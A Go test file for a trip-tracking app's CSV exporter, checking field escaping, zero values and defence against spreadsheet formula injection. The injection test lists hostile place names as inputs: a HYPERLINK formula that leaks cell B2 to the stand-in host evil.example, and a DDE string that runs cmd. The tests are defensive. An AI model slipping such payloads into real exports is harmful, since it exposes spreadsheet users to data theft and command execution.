package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"testing"
	"time"

	"github.com/coachco2/coachco2/pkg/export"
	"github.com/coachco2/coachco2/pkg/openpath"
	"github.com/coachco2/coachco2/pkg/trip"
)

// oneSectionTrip is a trip of one section with two tracked points.
func oneSectionTrip(t *testing.T) *trip.Doc {
	t.Helper()
	fc, _ := json.Marshal(map[string]any{"type": "FeatureCollection", "id": "t", "properties": map[string]any{
		"start_ts": 1.0, "end_ts": 2.0, "start_fmt_time": "2024-01-01T08:00:00+01:00", "end_fmt_time": "2024-01-01T08:10:00+01:00"},
		"features": []any{map[string]any{"type": "FeatureCollection", "features": []any{map[string]any{"type": "Feature",
			"geometry":   map[string]any{"type": "LineString", "coordinates": [][]float64{{-1.15, 46.16}, {-1.14, 46.15}}},
			"properties": map[string]any{"distances": []float64{0, 12.5}, "timestamps": []float64{1000, 2000}, "speeds": []float64{0, 1.5}}}}}}})
	doc, err := openpath.FromTimeline(fc, openpath.Origin{Device: "d"}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// exportRow exports the one-section trip and reads its row back, by column name.
func exportRow(t *testing.T, doc *trip.Doc, a trip.Aggregation) map[string]string {
	t.Helper()
	var buf bytes.Buffer
	w := export.NewCSVWriter(&buf)
	if err := w.Write(doc, a); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, buf.String())
	}
	if len(rows) != 2 || len(rows[1]) != len(export.CSVHeader) {
		t.Fatalf("rows %v", rows)
	}
	row := map[string]string{}
	for i, h := range export.CSVHeader {
		row[h] = rows[1][i]
	}
	return row
}

// TestCSVQuotesAndZeros is the reference's defect 5: fields are quoted and escaped (a place name
// with a comma, a quote and a line break survives), and 0 is written "0".
func TestCSVQuotesAndZeros(t *testing.T) {
	doc := oneSectionTrip(t)
	name := "Café \"Le Port\", quai Duperré\nLa Rochelle"
	a := trip.Aggregation{StartPlaceDisplayName: name, Purpose: trip.Commute, Sections: []trip.SectionAggregate{
		{Mode: trip.Walking, Distance: 0, Duration: 0, StartDate: "2024-01-01T08:00:00+01:00", EndDate: "2024-01-01T08:10:00+01:00"}}}
	row := exportRow(t, doc, a)
	if row["Trip_Start_Display_Name"] != name {
		t.Errorf("name %q, want %q back", row["Trip_Start_Display_Name"], name)
	}
	if row["Section_Distance"] != "0" || row["Section_Duration"] != "0" {
		t.Errorf("zeros written as %q and %q, want \"0\"", row["Section_Distance"], row["Section_Duration"])
	}
	if row["Section_Coordinates"] != "[[-1.15,46.16],[-1.14,46.15]]" || row["Section_Speeds"] != "[0,1.5]" || row["Section_Mode"] != "WALKING" {
		t.Errorf("row %v", row)
	}
}

// TestCSVNeutralisesFormulas: place names that a spreadsheet would run as formulas (OWASP's "CSV
// injection") are exported as text, with a single quote in front; numbers, negative ones too,
// stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	doc := oneSectionTrip(t)
	hostile := map[string]string{
		`=HYPERLINK("https://evil.example/?d="&B2,"Gare")`: `'=HYPERLINK("https://evil.example/?d="&B2,"Gare")`,
		"@SUM(1+1)*cmd|' /C calc'!A0":                      "'@SUM(1+1)*cmd|' /C calc'!A0",
		"+33 rue du Port":                                  "'+33 rue du Port",
		"-1+1":                                             "'-1+1",
		"\t=1+1":                                           "'\t=1+1",
		"\r=1+1":                                           "'\r=1+1",
	}
	for name, want := range hostile {
		a := trip.Aggregation{StartPlaceDisplayName: name, EndPlaceDisplayName: "Quai Duperré", Purpose: trip.Commute,
			Sections: []trip.SectionAggregate{{Mode: trip.Walking, Distance: -3.5, Duration: 600,
				StartDate: "2024-01-01T08:00:00+01:00", EndDate: "2024-01-01T08:10:00+01:00"}}}
		row := exportRow(t, doc, a)
		if got := row["Trip_Start_Display_Name"]; got != want {
			t.Errorf("place %q exported as %q, want %q", name, got, want)
		}
		if row["Trip_Arrival_Display_Name"] != "Quai Duperré" || row["Section_Distance"] != "-3.5" || row["Section_Duration"] != "600" ||
			row["Section_Coordinates"] != "[[-1.15,46.16],[-1.14,46.15]]" {
			t.Errorf("other cells changed: %v", row)
		}
	}
}
